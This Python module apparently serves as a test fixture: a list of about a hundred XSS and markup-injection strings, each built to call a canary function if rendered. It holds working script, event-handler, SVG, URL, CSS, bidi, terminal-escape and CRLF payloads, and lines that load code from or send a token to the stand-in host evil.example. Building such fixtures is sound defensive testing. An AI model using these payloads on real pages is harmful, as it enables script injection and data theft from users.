"""A hundred things that somebody could write to break out of a page: each would call `hit()` if it were not text."""

from __future__ import annotations

__all__ = ["INJECTIONS"]

_HIT = "window.hit()"
_SCRIPTS = [
    f"<script>{_HIT}</script>",
    f"<ScRiPt>{_HIT}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"</p></div><script>{_HIT}</script>",
    f"<<script>{_HIT}//<</script>",
    f"<script\x0c>{_HIT}</script>",
    f"<script>/*</script>*/{_HIT}</script>",
    f'"><script>{_HIT}</script>',
    f"';{_HIT};//",
    f'";{_HIT};//',
    f"`${{{_HIT}}}`",
    f"${{{_HIT}}}",
    f"{{{{constructor.constructor('{_HIT}')()}}}}",
    f"<%= {_HIT} %>",
    f'<noscript><p title="</noscript><img src=x onerror={_HIT}>">',
    f"<template><script>{_HIT}</script></template>",
]
_EVENTS = [
    f"<{tag} {handler}={_HIT}{more}>"
    for tag, handler, more in (
        ("img src=x", "onerror", ""),
        ("img src=x", "onerror", " /"),
        ("IMG SRC=x", "ONERROR", ""),
        ("image src=x", "onerror", ""),
        ("video src=x", "onerror", ""),
        ("audio src=x", "onerror", ""),
        ("input autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""),
        ("keygen autofocus", "onfocus", ""),
        ("details open", "ontoggle", ""),
        ("body", "onload", ""),
        ("div", "onmouseover", " style=position:fixed;inset:0"),
        ("marquee", "onstart", ""),
        ("object data=x", "onerror", ""),
        ("embed src=x", "onload", ""),
        ("iframe", "onload", ""),
        ("link rel=stylesheet href=x", "onerror", ""),
        ("style", "onload", ""),
        ("video><source", "onerror", ""),
        ("a href=# autofocus tabindex=1", "onfocus", ""),
        ("b", "onclick", ""),
        ("form", "onsubmit", ""),
        ("button autofocus", "onfocus", ""),
    )
]
_FRAMES = [
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data='data:text/html,<script>parent.hit()</script>'></object>",
    "<embed src='data:text/html,<script>parent.hit()</script>'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=token></form>",
    "<link rel=prefetch href=https://evil.example/>",
    "<portal src=https://evil.example/></portal>",
    "<frameset onload=window.hit()>",
]
_VECTORS = [
    f"<svg onload={_HIT}>",
    f"<svg><script>{_HIT}</script></svg>",
    f"<svg><animate onbegin={_HIT} attributeName=x dur=1s>",
    f"<svg><set onbegin={_HIT} attributeName=x>",
    f"<svg><a xlink:href=javascript:{_HIT}><text x=20 y=20>click</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={_HIT}></foreignObject></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_HIT}/>#x'/></svg>",
    f"<svg><image href=x onerror={_HIT}/></svg>",
    f"<svg><style><img src=x onerror={_HIT}></style></svg>",
    f"<math><mtext><img src=x onerror={_HIT}></mtext></math>",
    f"<math href=javascript:{_HIT}>click</math>",
    f"]]></text><script>{_HIT}</script>",
    "</text></svg><h1>out</h1>",
]
_STYLES = [
    "<style>*{display:none!important}</style>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<p style='position:fixed;inset:0;background:red;z-index:9999'>cover</p>",
    "<div style='background:url(https://evil.example/pixel)'>pixel</div>",
    "</style><style>body{visibility:hidden}</style>",
    "x;background:url(https://evil.example/pixel)",
    "}body{display:none}",
    "<b class=nbh-panel>panel in panel</b>",
    "<p style=width:99999px>wide</p>",
    "W" * 900,
]
_ADDRESSES = [
    f"javascript:{_HIT}",
    f"JaVaScRiPt:{_HIT}",
    f"java\tscript:{_HIT}",
    f"<a href=javascript:{_HIT}>click me</a>",
    f"[click me](javascript:{_HIT})",
    "![pixel](https://evil.example/pixel)",
    "<https://evil.example/>",
    f"data:text/html,<script>{_HIT}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oaXQoKSI+",
    "//evil.example/x.js",
    "https://evil.example/\u202egpj.exe",
    "vbscript:msgbox(1)",
]
_TEXTS = [
    "\u202eright to left for ever",
    "a\u202d\u202e\u202a\u202bb\u202c",
    "\u2066isolated\u2067and\u2068not closed",
    "zero\u200bwidth\u2060joined\ufeffmarked",
    "\u200e\u200f\u061cmarks",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;a title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mC1",
    "bell\x07 backspace\x08\x08\x08 null\x00",
    "line\u2028separator\u2029paragraph",
    "Z̸̡̛̖̗̘̙" * 20,
    "\r\nSet-Cookie: hit=1\r\n",
    "$x^2$ $$\\href{javascript:window.hit()}{click}$$ \\(\\def\\a{\\a}\\a\\)",
    "&lt;script&gt;window.hit()&lt;/script&gt;",
    "&#60;img src=x onerror=window.hit()&#62;",
    "%3Cscript%3Ewindow.hit()%3C/script%3E",
    "\\u003cscript\\u003ewindow.hit()\\u003c/script\\u003e",
    "<!--<img src=x onerror=window.hit()>-->",
    "<![CDATA[<script>window.hit()</script>]]>",
]

INJECTIONS = [*_SCRIPTS, *_EVENTS, *_FRAMES, *_VECTORS, *_STYLES, *_ADDRESSES, *_TEXTS]
